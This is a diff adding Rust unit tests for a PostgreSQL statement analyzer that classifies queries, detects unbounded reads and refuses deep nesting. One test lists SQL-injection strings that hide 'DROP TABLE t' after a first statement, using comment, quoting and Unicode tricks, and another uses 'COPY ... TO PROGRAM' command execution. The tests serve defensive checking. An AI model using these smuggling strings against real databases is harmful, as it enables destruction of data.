+        "BEGIN; COMMIT; ROLLBACK; SAVEPOINT s; RELEASE SAVEPOINT s; ROLLBACK TO s; START TRANSACTION ISOLATION LEVEL SERIALIZABLE; END; ABORT; PREPARE TRANSACTION 'x'; COMMIT PREPARED 'x'; SET CONSTRAINTS ALL DEFERRED",
+    );
+    assert_eq!(v.len(), 12);
+    assert!(v.iter().all(|s| s.classes == classes(&[Transaction])), "{v:#?}");
+    let v = all("DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; FETCH ALL FROM c; MOVE NEXT IN c; CLOSE c");
+    assert_eq!(
+        (v[0].command.as_str(), &v[0].classes, &v[0].reads),
+        ("DECLARE CURSOR", &classes(&[Read]), &rels(&["t"]))
+    );
+    assert_eq!((v[1].limit, v[1].unbounded), (Some(10), false));
+    assert!(v[2].unbounded);
+    assert_eq!(v[3].classes, classes(&[Read]));
+    assert_eq!(v[4].classes, classes(&[Session]));
+    assert_eq!(one("SHOW search_path").classes, classes(&[Read]));
+}
+
+#[test]
+fn limits_and_unbounded_reads() {
+    let cases: &[(&str, bool, Option<u64>)] = &[
+        ("SELECT * FROM t", true, None),
+        ("SELECT * FROM t LIMIT 10", false, Some(10)),
+        ("SELECT * FROM t LIMIT 10 OFFSET 5", false, Some(10)),
+        ("SELECT * FROM t FETCH FIRST 5 ROWS ONLY", false, Some(5)),
+        ("SELECT * FROM t ORDER BY random() LIMIT $1", false, None),
+        ("SELECT * FROM t LIMIT ALL", true, None),
+        ("SELECT * FROM t OFFSET 10", true, None),
+        ("SELECT x FROM t UNION SELECT y FROM u LIMIT 5", false, Some(5)),
+        ("SELECT x FROM t UNION SELECT y FROM u", true, None),
+        ("SELECT * FROM (SELECT * FROM t LIMIT 1) s", true, None),
+        ("SELECT count(*) FROM t", false, None),
+        ("SELECT count(*), max(x) FROM t", false, None),
+        ("SELECT a, count(*) FROM t GROUP BY a", true, None),
+        ("SELECT 1", false, None),
+        ("SELECT generate_series(1, 1000000)", true, None),
+        ("VALUES (1), (2)", false, None),
+        ("SELECT 1 UNION ALL SELECT 2", false, None),
+        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", true, None),
+        ("INSERT INTO t SELECT * FROM s", false, None),
+        ("SHOW ALL", false, None),
+    ];
+    for (sql, unbounded, limit) in cases {
+        let s = one(sql);
+        assert_eq!((s.unbounded, s.limit), (*unbounded, *limit), "{sql}");
+    }
+}
+
+// ---- real client traffic ----------------------------------------------------
+
+#[test]
+fn pgbench() {
+    let v = all(
+        "UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 5678;
+SELECT abalance FROM pgbench_accounts WHERE aid = 5678;
+UPDATE pgbench_tellers SET tbalance = tbalance + -1234 WHERE tid = 3;
+UPDATE pgbench_branches SET bbalance = bbalance + -1234 WHERE bid = 1;
+INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (3, 1, 5678, -1234, CURRENT_TIMESTAMP);
+END;",
+    );
+    let cmds: Vec<_> = v.iter().map(|s| s.command.as_str()).collect();
+    assert_eq!(cmds, ["UPDATE", "SELECT", "UPDATE", "UPDATE", "INSERT", "COMMIT"]);
+    assert_eq!(
+        (&v[1].classes, &v[1].reads),
+        (&classes(&[Read]), &rels(&["pgbench_accounts"]))
+    );
+    assert_eq!(v[4].writes, rels(&["pgbench_history"]));
+    let s = one("SELECT abalance FROM pgbench_accounts WHERE aid = $1");
+    assert_eq!((&s.reads, s.unbounded), (&rels(&["pgbench_accounts"]), true));
+    // pgbench -i
+    for sql in [
+        "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
+        "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
+        "create table pgbench_accounts(aid    int not null,bid int,abalance int,filler char(84)) with (fillfactor=100)",
+        "alter table pgbench_branches add primary key (bid)",
+        "truncate table pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
+    ] {
+        assert!(one(sql).classes.contains(&Ddl), "{sql}");
+    }
+    let s = one("copy pgbench_accounts from stdin with (freeze on)");
+    assert_eq!(
+        (&s.classes, &s.writes),
+        (&classes(&[Write]), &rels(&["pgbench_accounts"]))
+    );
+    assert_eq!(
+        s.copy,
+        Some(CopyFacts {
+            from: true,
+            endpoint: CopyEndpoint::Client
+        })
+    );
+    let s = one("insert into pgbench_branches(bid,bbalance) select bid, 0 from generate_series(1, 1) as bid");
+    assert_eq!(
+        (&s.writes, &s.functions),
+        (&rels(&["pgbench_branches"]), &funcs(&["generate_series"]))
+    );
+    assert_eq!(
+        one("select count(*) from pgbench_branches").reads,
+        rels(&["pgbench_branches"])
+    );
+}
+
+#[test]
+fn psql_describe_queries() {
+    // \dt
+    let s = one(r#"SELECT n.nspname as "Schema",
+  c.relname as "Name",
+  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
+  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
+WHERE c.relkind IN ('r','p','')
+      AND n.nspname <> 'pg_catalog'
+      AND n.nspname !~ '^pg_toast'
+      AND n.nspname <> 'information_schema'
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 1,2;"#);
+    assert_eq!(s.classes, classes(&[Read]));
+    assert_eq!(
+        s.reads,
+        rels(&["pg_catalog.pg_class", "pg_catalog.pg_namespace", "pg_catalog.pg_am"])
+    );
+    assert_eq!(s.functions, funcs(&["pg_get_userbyid", "pg_table_is_visible"]));
+    // \d t
+    let s = one(r"SELECT c.oid,
+  n.nspname,
+  c.relname
+FROM pg_catalog.pg_class c
+     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
+WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default
+  AND pg_catalog.pg_table_is_visible(c.oid)
+ORDER BY 2, 3;");
+    assert_eq!(s.reads, rels(&["pg_catalog.pg_class", "pg_catalog.pg_namespace"]));
+    let s = one(
+        r"SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, pg_catalog.array_to_string(c.reloptions || array(select 'toast.' || x from pg_catalog.unnest(tc.reloptions) x), ', ')
+, c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
+FROM pg_catalog.pg_class c
+ LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
+LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
+WHERE c.oid = '16384';",
+    );
+    assert_eq!(s.reads, rels(&["pg_catalog.pg_class", "pg_catalog.pg_am"]));
+    assert!(s.functions.contains("array_to_string") && s.functions.contains("unnest"));
+    let s = one(r"SELECT a.attname,
+  pg_catalog.format_type(a.atttypid, a.atttypmod),
+  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
+   FROM pg_catalog.pg_attrdef d
+   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
+  a.attnotnull,
+  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
+   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
+  a.attidentity,
+  a.attgenerated
+FROM pg_catalog.pg_attribute a
+WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped
+ORDER BY a.attnum;");
+    assert_eq!(
+        s.reads,
+        rels(&[
+            "pg_catalog.pg_attribute",
+            "pg_catalog.pg_attrdef",
+            "pg_catalog.pg_collation",
+            "pg_catalog.pg_type"
+        ])
+    );
+    assert_eq!(s.functions, funcs(&["format_type", "pg_get_expr"]));
+    // \l
+    let s = one(r#"SELECT
+  d.datname as "Name",
+  pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
+  pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
+  CASE d.datlocprovider WHEN 'b' THEN 'builtin' WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
+  pg_catalog.array_to_string(d.datacl, E'\n') AS "Access privileges"
+FROM pg_catalog.pg_database d
+ORDER BY 1;"#);
+    assert_eq!(s.reads, rels(&["pg_catalog.pg_database"]));
+    // \d t: policies
+    let s = one(r"SELECT pol.polname, pol.polpermissive,
+  CASE WHEN pol.polroles = '{0}' THEN NULL ELSE pg_catalog.array_to_string(array(select rolname from pg_catalog.pg_roles where oid = any (pol.polroles) order by 1),',') END,
+  pg_catalog.pg_get_expr(pol.polqual, pol.polrelid)
+FROM pg_catalog.pg_policy pol
+WHERE pol.polrelid = '16384' ORDER BY 1;");
+    assert_eq!(s.reads, rels(&["pg_catalog.pg_policy", "pg_catalog.pg_roles"]));
+}
+
+#[test]
+fn pg_dump_statements() {
+    let v = all("SET statement_timeout = 0;
+SET lock_timeout = 0;
+SET idle_in_transaction_session_timeout = 0;
+SET client_encoding = 'UTF8';
+SET standard_conforming_strings = on;
+SELECT pg_catalog.set_config('search_path', '', false);
+SET check_function_bodies = false;
+SET xmloption = content;
+SET client_min_messages = warning;
+SET row_security = off;");
+    assert_eq!(v.len(), 10);
+    assert_eq!(
+        v[4].settings,
+        [("standard_conforming_strings".to_owned(), "on".to_owned())]
+    );
+    assert_eq!(v[5].settings, [("search_path".to_owned(), String::new())]);
+    assert!(
+        v.iter()
+            .enumerate()
+            .all(|(i, s)| i == 5 || s.classes == classes(&[Session]))
+    );
+    let s = one(
+        "SELECT tableoid, oid, nspname, nspowner, nspacl, acldefault('n', nspowner) AS acldefault FROM pg_namespace",
+    );
+    assert_eq!(
+        (&s.reads, &s.functions),
+        (&rels(&["pg_namespace"]), &funcs(&["acldefault"]))
+    );
+    let s = one("LOCK TABLE public.pgbench_accounts IN ACCESS SHARE MODE");
+    assert_eq!(s.writes, rels(&["public.pgbench_accounts"]));
+    let s = one("COPY public.pgbench_accounts (aid, bid, abalance, filler) TO stdout;");
+    assert_eq!(
+        (&s.classes, &s.reads),
+        (&classes(&[Read]), &rels(&["public.pgbench_accounts"]))
+    );
+    assert_eq!(
+        s.copy,
+        Some(CopyFacts {
+            from: false,
+            endpoint: CopyEndpoint::Client
+        })
+    );
+    assert_eq!(
+        one("SELECT pg_catalog.pg_is_in_recovery()").functions,
+        funcs(&["pg_is_in_recovery"])
+    );
+    assert_eq!(
+        one("SELECT last_value, is_called FROM public.t_id_seq").reads,
+        rels(&["public.t_id_seq"])
+    );
+    // and what a restore runs
+    for sql in [
+        "CREATE TABLE public.pgbench_accounts (\n    aid integer NOT NULL,\n    filler character(84)\n)\nWITH (fillfactor='100');",
+        "ALTER TABLE public.pgbench_accounts OWNER TO postgres;",
+        "ALTER TABLE ONLY public.pgbench_accounts ADD CONSTRAINT pgbench_accounts_pkey PRIMARY KEY (aid);",
+        "ALTER TABLE ONLY public.t ALTER COLUMN id SET DEFAULT nextval('public.t_id_seq'::regclass);",
+        "COMMENT ON EXTENSION plpgsql IS 'PL/pgSQL procedural language';",
+        "ALTER SEQUENCE public.t_id_seq OWNED BY public.t.id;",
+    ] {
+        assert_eq!(one(sql).classes, classes(&[Ddl]), "{sql}");
+    }
+    assert_eq!(
+        one("SELECT pg_catalog.setval('public.t_id_seq', 1, false);").functions,
+        funcs(&["setval"])
+    );
+}
+
+// ---- refusals -------------------------------------------------------------
+
+#[test]
+fn what_postgresql_rejects_is_pg_parse() {
+    for sql in [
+        "SELEC 1",
+        "SELECT 'unterminated",
+        "SELECT (1",
+        "SELECT 1 FROM",
+        "SELECT 1\0; DROP TABLE t",
+    ] {
+        assert!(matches!(run(sql), Err(SqlError::PgParse(_))), "{sql}: {:?}", run(sql));
+    }
+}
+
+#[test]
+fn what_only_postgresql_parses_is_parse() {
+    for sql in [
+        "TABLE t",
+        "SELECT * FROM ROWS FROM (generate_series(1,2), generate_series(1,3))",
+        "SELECT xmlelement(name foo)",
+    ] {
+        assert!(matches!(run(sql), Err(SqlError::Parse(_))), "{sql}: {:?}", run(sql));
+    }
+    // One bad statement refuses the whole string.
+    assert!(matches!(run("SELECT 1; TABLE t"), Err(SqlError::Parse(_))));
+}
+
+#[test]
+fn too_long() {
+    let limits = Limits {
+        max_sql_bytes: 16,
+        max_depth: 64,
+    };
+    assert_eq!(
+        analyze("SELECT 1234567890123", &limits),
+        Err(SqlError::TooLong { len: 20, max: 16 })
+    );
+    assert!(analyze("SELECT 1", &limits).is_ok());
+}
+
+#[test]
+fn deep_nesting_is_refused_without_a_crash() {
+    on_small_stack(|| {
+        let parens = format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000));
+        assert_eq!(run(&parens), Err(SqlError::TooDeep(64)));
+        let chain = format!("SELECT 1{}", "+1".repeat(100_000));
+        assert_eq!(run(&chain), Err(SqlError::TooDeep(64)));
+        // Runs PostgreSQL accepts but sqlparser would build too deep a tree from.
+        let chain = format!("SELECT 1{}", "+1".repeat(5_000));
+        assert_eq!(run(&chain), Err(SqlError::TooDeep(64)));
+        let subqueries = format!("SELECT {}1{}", "(SELECT ".repeat(200), ")".repeat(200));
+        assert_eq!(run(&subqueries), Err(SqlError::TooDeep(64)));
+        let not = format!("SELECT {}true", "NOT ".repeat(10_000));
+        assert_eq!(run(&not), Err(SqlError::TooDeep(64)));
+        let casts = format!("SELECT 1{}", "::int".repeat(10_000));
+        assert_eq!(run(&casts), Err(SqlError::TooDeep(64)));
+        let arrays = format!("SELECT {}1{}", "ARRAY[".repeat(5_000), "]".repeat(5_000));
+        assert_eq!(run(&arrays), Err(SqlError::TooDeep(64)));
+    });
+    // Moderate nesting is fine.
+    assert!(run(&format!("SELECT {}1{}", "(".repeat(20), ")".repeat(20))).is_ok());
+    assert!(run(&format!("SELECT 1{}", "+1".repeat(500))).is_ok());
+    assert!(run(&format!("SELECT 1 WHERE {}", vec!["a = 1"; 300].join(" OR "))).is_ok());
+}
+
+#[test]
+fn a_smuggled_statement_is_counted_or_refused() {
+    // Whatever the trick, the DROP either shows up as a statement of its own
+    // or the string is refused: it never passes hidden inside another one.
+    let tricks = [
+        "SELECT 1; DROP TABLE t",
+        "SELECT 1;DROP TABLE t",
+        "SELECT 1 /* */; DROP TABLE t",
+        "SELECT 1 /* /* */ */; DROP TABLE t",
+        "SELECT '\\'; DROP TABLE t; --'",
+        "SELECT $$a$$; DROP TABLE t",
+        "SELECT $a$ $$ $a$; DROP TABLE t",
+        "SELECT 1 --\n; DROP TABLE t",
+        "SELECT E'\\\\'; DROP TABLE t",
+        "SELECT U&'\\0027'; DROP TABLE t",
+        "SELECT \"a;\"\"\"; DROP TABLE t",
+        "SELECT 1 -- \r; DROP TABLE t",
+        "select 1\u{a0}; DROP TABLE t",
+        "SELECT 'a'\n'b'; DROP TABLE t",
+    ];
+    for sql in tricks {
+        if let Ok(a) = run(sql) {
+            assert!(a.statements.iter().any(|s| s.command == "DROP TABLE"), "{sql}: {a:#?}");
+        }
+    }
+}
+
+#[test]
+fn facts_serialize_for_explain() {
+    let json = serde_json::to_value(one("COPY t TO PROGRAM 'id'")).unwrap();
+    assert_eq!(json["classes"], serde_json::json!(["read"]));
+    assert_eq!(
+        json["copy"]["endpoint"],
+        serde_json::json!({"kind": "program", "value": "id"})
+    );
 }
